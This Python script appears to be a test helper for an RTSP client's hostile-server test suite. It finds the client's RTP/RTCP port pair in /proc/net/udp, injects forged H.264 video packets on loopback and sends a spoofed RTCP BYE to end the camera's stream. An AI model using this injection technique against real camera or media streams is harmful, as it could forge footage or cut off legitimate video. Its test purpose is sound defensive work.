#!/usr/bin/env python3
"""A local attacker against an RTSP client's UDP port pair, for RTSPHostileServerTests; run as another user.

    rtsp-udp-attacker.py --port CLIENT_RTP_PORT --forge clip.h264 [--fps 25] [--ssrc 0x4556494C]

Finds the client's port pair in /proc/net/udp (any user may read it: that is the attack), then sends the forged
clip's frames (packetized as scripts/bench-rtsp.py does, with its own SSRC) from its own socket on 127.0.0.1 to the
RTP port, paced at --fps, and an RTCP BYE naming the camera's SSRC ("STRM") to the RTCP port after 25 frames.
Prints "found" when both ports are in /proc/net/udp (else "not found" and exits 1), "sent N" at the end.
"""
import argparse
import importlib.util
import os
import socket
import time

spec = importlib.util.spec_from_file_location("bench_rtsp", os.path.join(os.path.dirname(__file__), "bench-rtsp.py"))
bench = importlib.util.module_from_spec(spec)
spec.loader.exec_module(bench)


def bound_ports():
    """Local ports of the UDP sockets on 127.0.0.1 listed in /proc/net/udp."""
    ports = set()
    with open("/proc/net/udp") as table:
        for line in table.readlines()[1:]:
            local = line.split()[1]
            address, port = local.split(":")
            if address == "0100007F":
                ports.add(int(port, 16))
    return ports


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--forge", required=True)
    parser.add_argument("--fps", type=int, default=25)
    parser.add_argument("--ssrc", type=lambda text: int(text, 0), default=0x4556494C)
    args = parser.parse_args()
    ports = bound_ports()
    if args.port not in ports or args.port + 1 not in ports:
        print("not found", flush=True)
        return 1
    print("found", flush=True)
    packets = bench.packetize(bench.access_units(open(args.forge, "rb").read()), args.fps)
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(("127.0.0.1", 0))
    start = time.monotonic()
    sent = 0
    for index, frame in enumerate(packets):
        time.sleep(max(0, start + index / args.fps - time.monotonic()))
        for packet in frame:
            sock.sendto(packet[:8] + args.ssrc.to_bytes(4, "big") + packet[12:], ("127.0.0.1", args.port))
            sent += 1
        if index == 25:
            sock.sendto(bytes([0x81, 203, 0, 1]) + (0x5354524D).to_bytes(4, "big"), ("127.0.0.1", args.port + 1))
    print("sent %d" % sent, flush=True)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
